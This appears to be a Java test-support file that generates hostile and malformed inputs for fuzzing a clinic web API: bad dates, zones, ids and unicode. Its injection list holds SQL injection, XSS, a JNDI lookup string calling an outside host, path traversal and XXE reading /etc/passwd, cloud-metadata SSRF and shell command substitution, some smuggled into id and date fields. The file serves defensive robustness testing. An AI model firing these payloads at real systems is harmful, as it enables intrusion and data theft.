package com.clinicnet.reliability.badinput;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.regex.Pattern;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.RandomGenerator;
import net.jqwik.api.sessions.JqwikSession;

/**
 * What a hostile or careless client sends, as jqwik arbitraries drawn from a seeded {@link Random} (so a seed
 * replays a run): injection strings, unicode that breaks naive code (right-to-left overrides, emoji, NUL, lone
 * surrogates), numbers out of every range, dates and zones that do not exist, ids that are not ids.
 */
final class HostileValues {

    static final List<String> INJECTIONS = List.of("' OR 1=1 --", "'; DROP TABLE clinic; --", "\" OR \"\"=\"",
            "1; SELECT pg_sleep(5)", "-1 UNION SELECT null, version() --", "admin'--", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "javascript:alert(1)", "${jndi:ldap://x.example/a}", "${7*7}", "#{7*7}",
            "{{7*7}}", "%{(#a=1)}", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\u0000.png",
            "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "*)(uid=*))(|(uid=*", "| cat /etc/passwd",
            "`id`", "$(id)", "\r\nSet-Cookie: session=stolen", "%0d%0aLocation: x", "{\"$gt\": \"\"}", "$where",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "AAAA%n%n%s%s%x", "\\", "'", "\"",
            "null", "undefined", "NaN", "-0", "[]", "{}", "__proto__", "constructor.prototype");

    static final List<String> UNICODE = List.of("\u202Egnp.exe", "مرحبا بالعالم", "שלום עולם", "\u200F\u200E",
            "🙂💆\u200D♀️🏥", "👨\u200D👩\u200D👧\u200D👦", "\u0000", "a\u0000b", "\uD800", "\uDC00x", "x\uDBFF",
            "\uDFFF\uD800", "\uFEFFbom", "\u200B\u200C\u200D\u2060", "Z\u0334\u0321\u031Ba\u0335l\u0337g\u0336o",
            "\u0007\u0008\u001B[31mred", "\r\n\t\u000B\u000C", "ｆｕｌｌｗｉｄｔｈ", "\uFFFF\uFFFE", "İıŞşǅ",
            "𝕳𝖊𝖑𝖑𝖔", "\u2028\u2029", "e\u0301\u0301\u0301", "\u0085\u00A0\u1680", "Ω≈ç√∫", "田中さん", "\uFDFD");

    /** Hostile text, anything JSON can carry: injections, curated unicode, random characters of the whole BMP. */
    static final Draw<String> TEXT = new Draw<>(Arbitraries.frequencyOf(
            net.jqwik.api.Tuple.of(4, Arbitraries.of(INJECTIONS)),
            net.jqwik.api.Tuple.of(4, Arbitraries.of(UNICODE)),
            net.jqwik.api.Tuple.of(2, Arbitraries.strings().all().ofMinLength(1).ofMaxLength(24)),
            net.jqwik.api.Tuple.of(1, Arbitraries.strings().withCharRange('\u0000', '\u001F').ofMinLength(1).ofMaxLength(8)),
            net.jqwik.api.Tuple.of(1, Arbitraries.of(INJECTIONS).flatMap(injection -> Arbitraries.of(UNICODE)
                    .map(unicode -> injection + unicode)))));

    /** Numbers just outside a range and far outside any: written as JSON numbers of every size. */
    static Object outOfRange(long min, long max, Random random) {
        List<Object> candidates = List.of(min - 1, max + 1, -1L, Integer.MAX_VALUE + 1L, Integer.MIN_VALUE,
                Long.MAX_VALUE, Long.MIN_VALUE, new BigInteger("99999999999999999999999999999999"),
                new BigInteger("-99999999999999999999999999999999"), new BigDecimal("1E+400"),
                new BigDecimal("-1E+400"), max * 1000 + 7);
        List<Object> outside = candidates.stream()
                .filter(value -> !(value instanceof Long number) || number < min || number > max)
                .filter(value -> !(value instanceof Integer number) || number < min || number > max).toList();
        return outside.get(random.nextInt(outside.size()));
    }

    static final Draw<String> NOT_A_UUID = new Draw<>(Arbitraries.oneOf(Arbitraries.of("42", "not-a-uuid", "null",
                    "00000000-0000-0000-0000-00000000000g", "6f1c7a52-0c4e-4f39-9d5c-2b1f0e0c3c1a-extra",
                    "{6f1c7a52-0c4e-4f39-9d5c-2b1f0e0c3c1a}", "6f1c7a520c4e4f399d5c2b1f0e0c3c1a", "-", "0x1F",
                    "6f1c7a52-0c4e-4f39-9d5c-2b1f0e0c3c1a' OR '1'='1", "１２３", "6f1c7a52‐0c4e‐4f39‐9d5c‐2b1f0e0c3c1a"),
            Arbitraries.of(INJECTIONS), Arbitraries.of(UNICODE))
            // (none that trims to nothing: Jackson and Spring read that as no id at all, which is fine)
            .filter(id -> isNotAUuid(id) && !id.trim().isEmpty()));

    // (no date or time that only ends in a NUL or a space: Jackson trims them before it reads them, which is fine;
    // and no +json type among the wrong content types: application/json-patch+json is JSON to Spring, by design)
    static final Draw<String> NOT_AN_INSTANT = new Draw<>(Arbitraries.of("tomorrow", "2031-02-30T10:00:00Z",
            "2031-13-01T10:00:00Z", "2031-01-01T25:00:00Z", "2031-01-01T10:61:00Z", "2031-01-01T10:00:00",
            "2031-01-01", "10:00", "2031-01-01T10:00:00+25:00", "2031-01-01T10:00:00 Europe/Lisbon",
            "2031-01-01T10:00:00[Mars/Olympus]", "+1000000000-01-01T00:00:00Z", "-1000000000-01-01T00:00:00Z",
            "+999999999-12-31T23:59:59Z", "-999999999-01-01T00:00:00+18:00", "0000-12-31T10:00:00Z",
            "+10000-01-01T00:00:00Z", "-0001-06-01T00:00:00Z",
            "2031-01-01T10:00:00ZZ", "2031/01/01 10:00", "01/02/2031", "1e10", "", " ", "2031-01-01T10:00:00+01:00' --",
            "٢٠٣١-٠١-٠١T10:00:00Z", "2031-01-01T10:00:00\u0001Z"));

    static final Draw<String> NOT_A_DATE = new Draw<>(Arbitraries.of("yesterday", "2031-02-30", "2031-13-01",
            "2031-00-10", "2031-1-1", "31/01/2031", "2031-W01-1", "2031-01-01T00:00:00Z", "+1000000000-01-01",
            "+999999999-12-31", "-999999999-01-01", "+10000-01-01", "-0001-01-01",
            "0000-00-00", "", " ", "2031-01-01' OR '1'='1", "２０３１-０１-０１"));

    static final Draw<String> NOT_A_TIME = new Draw<>(Arbitraries.of("24:00", "25:00", "09:60", "9:00", "noon",
            "09:00 PM", "09:00:00+01:00", "-01:00", "09h00", "", " ", "09:00' --", "０９:００"));

    static final Draw<String> NOT_A_ZONE = new Draw<>(Arbitraries.oneOf(Arbitraries.of("Mars/Olympus",
                    "Europe/Atlantis", "europe/lisbon", "UTC", "GMT", "Z", "+01:00", "UTC+1", "EST5EDT", "CET",
                    "Europe/Lisbon ", " Europe/Lisbon", "Europe/Lisbon\u0000", "Europe//Lisbon", "Europe/../etc/passwd",
                    "Europe/Lisbon' OR '1'='1", "Ｅｕｒｏｐｅ/Ｌｉｓｂｏｎ", "/", "Europe/" + "x".repeat(300)),
            Arbitraries.of(INJECTIONS), Arbitraries.of(UNICODE))
            .filter(zone -> !ZoneId.getAvailableZoneIds().contains(zone)));

    /** Values of the wrong JSON type, for a field that expects text: objects and arrays (a number or a boolean
     * would be read as its text, which is fine). */
    static final Draw<Object> NOT_TEXT = new Draw<>(Arbitraries.of(Map.of("$ne", ""), Map.of(),
            List.of("' OR 1=1 --"), List.of(), List.of(List.of()), Map.of("__proto__", Map.of("admin", true))));

    static final Draw<Object> NOT_A_NUMBER = new Draw<>(Arbitraries.of("three", "NaN", "Infinity", "1e", "0x10",
            "12abc", "' OR 1=1 --", true, false, Map.of(), List.of(1), Map.of("value", 3), 2.5, 0.5, 1.0000001,
            "2.5"));

    /** Text that is no integer, in a query or a path (not "0x10": Spring reads hex as a number, by design). */
    static final List<String> NOT_AN_INTEGER = List.of("ten", "1.5", "1e3", "99999999999", "-", "1_000",
            "' OR 1=1 --", "NaN", "5;", "½");

    static final Draw<Object> NOT_A_BOOLEAN = new Draw<>(Arbitraries.of("maybe", "yes please", Map.of(), List.of(true),
            "' OR 1=1 --"));

    static final Draw<Object> NOT_AN_OBJECT = new Draw<>(Arbitraries.of("text", 42, true, List.of(), List.of(1, 2),
            "' OR 1=1 --"));

    static final Draw<Object> NOT_A_LIST = new Draw<>(Arbitraries.of("text", 42, true, Map.of(), Map.of("0", "x"),
            "' OR 1=1 --"));

    /** Not a date-time: wrong JSON types (a number would be read as epoch seconds, which is fine). */
    static final Draw<Object> NOT_A_TEMPORAL_TYPE = new Draw<>(Arbitraries.of(Map.of(), List.of("x"), true,
            Map.of("year", 2031)));

    static final Draw<Object> NOT_A_CONSTANT_TYPE = new Draw<>(Arbitraries.of(Map.of(), List.of("MONDAY"), true,
            1, 0, -1, 3.5));

    static final Draw<Object> NOT_AN_ID_TYPE = new Draw<>(Arbitraries.of(42, -1, true, Map.of(), List.of(),
            Map.of("id", "6f1c7a52-0c4e-4f39-9d5c-2b1f0e0c3c1a"), 1.5));

    /** Path segments and query values as bytes on the wire: traversal, encoded NUL, invalid UTF-8 (a UTF-8
     * encoded surrogate, an overlong dot), double encoding. */
    static final Draw<String> ENCODED_ON_THE_WIRE = new Draw<>(Arbitraries.of("..%2F..%2Fetc%2Fpasswd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5C..%5Cwindows", "%00", "abc%00def", "%ED%A0%80", "%C0%AE%C0%AE",
            "%FF%FE", "%E2%80%AE", "%252e%252e%252f", "%3Bjsessionid%3Dx", "%25", "%0D%0ASet-Cookie:%20x=1",
            "%F0%9F%99%82", "%C3", "..%00"));

    static final Draw<String> CONTENT_TYPES = new Draw<>(Arbitraries.of("text/plain", "application/xml",
            "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/javascript",
            "image/png", "application/json; charset=x-no-such-charset",
            "application/octet-stream", "*/*", "application/vnd.clinicnet+xml", "json", "text/html; charset=utf-8"));

    private HostileValues() {
    }

    static String notMatching(Pattern pattern, Random random) {
        String value;
        do {
            value = random.nextInt(4) == 0 ? TEXT.from(random) : switch (random.nextInt(5)) {
                case 0 -> "lower_back";
                case 1 -> "A";
                case 2 -> "X".repeat(41 + random.nextInt(200));
                case 3 -> "LOWER BACK";
                default -> INJECTIONS.get(random.nextInt(INJECTIONS.size()));
            };
        }
        while (pattern.matcher(value).matches());
        return value;
    }

    /** Longer than {@code max} characters by 1 to {@code over}, of hostile text. */
    static String tooLong(long max, int over, Random random) {
        String unit = random.nextBoolean() ? "x" : TEXT.from(random);
        int length = (int) max + 1 + random.nextInt(over);
        StringBuilder text = new StringBuilder(length + unit.length());
        while (text.length() < length) {
            text.append(unit.isEmpty() ? "x" : unit);
        }
        return text.toString();
    }

    /** Hostile text that is still valid free text: not blank, no NUL, no lone surrogate, at most 100 characters. */
    static List<String> storableTexts(int count, long seed) {
        Random random = new Random(seed);
        List<String> texts = new ArrayList<>();
        JqwikSession.run(() -> {
            while (texts.size() < count) {
                String text = TEXT.from(random);
                text = text.length() > 100 ? text.substring(0, 100) : text;
                if (!text.isBlank() && text.indexOf('\u0000') < 0 && !hasLoneSurrogate(text)) {
                    texts.add(text);
                }
            }
        });
        return texts;
    }

    static boolean isNotAUuid(String text) {
        try {
            UUID.fromString(text);
            return false;
        }
        catch (IllegalArgumentException notAUuid) {
            return true;
        }
    }

    static boolean hasLoneSurrogate(String text) {
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (Character.isHighSurrogate(c) && (i + 1 == text.length() || !Character.isLowSurrogate(text.charAt(i + 1)))) {
                return true;
            }
            if (Character.isLowSurrogate(c) && (i == 0 || !Character.isHighSurrogate(text.charAt(i - 1)))) {
                return true;
            }
            if (Character.isHighSurrogate(c)) {
                i++;
            }
        }
        return false;
    }

    /**
     * An arbitrary drawn from a given {@link Random}, edge cases included. Its generator is made on the first draw,
     * which must happen inside a {@code JqwikSession} (jqwik keeps its generators in the session).
     */
    static final class Draw<T> {

        private static final int GEN_SIZE = 1000;
        private final Arbitrary<? extends T> arbitrary;
        private RandomGenerator<? extends T> generator;

        Draw(Arbitrary<? extends T> arbitrary) {
            this.arbitrary = arbitrary;
        }

        synchronized T from(Random random) {
            if (generator == null) {
                generator = arbitrary.generator(GEN_SIZE, true);
            }
            return generator.next(random).value();
        }
    }
}
